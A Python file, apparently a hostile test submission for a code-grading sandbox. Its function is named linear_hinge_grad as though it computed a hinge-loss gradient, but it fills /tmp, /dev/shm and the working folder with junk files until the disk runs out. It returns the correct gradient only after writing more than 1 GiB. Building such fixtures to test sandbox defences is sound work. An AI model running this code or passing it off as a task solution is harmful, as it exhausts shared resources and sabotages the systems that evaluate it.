"""Hostile submission: Write files until the disk is full, in /tmp, /dev/shm and the working folder."""

import json

import numpy as np


def _targets():
    """Return the paths and ports that the hostile test shares, so that the attack aims at real targets."""
    with open("targets.json", encoding="utf-8") as handle:
        return json.load(handle)


def _correct(x, y, a):
    x = np.asarray(x, dtype=float).reshape(-1, 1)
    return np.zeros_like(x) if y * a > 1 else -y * x

import os


def linear_hinge_grad(x, y, a):
    written = 0
    chunk = b"x" * (1 << 20)
    for folder in ("/tmp", "/dev/shm", "."):
        for index in range(400):
            try:
                with open(os.path.join(folder, f"fill-{index}"), "wb") as handle:
                    for _ in range(64):
                        handle.write(chunk)
                        written += len(chunk)
            except OSError as error:
                print("ATTACK stopped in", folder, "after", written >> 20, "MiB:", error)
                break
    return _correct(x, y, a) if written > (1 << 30) else None
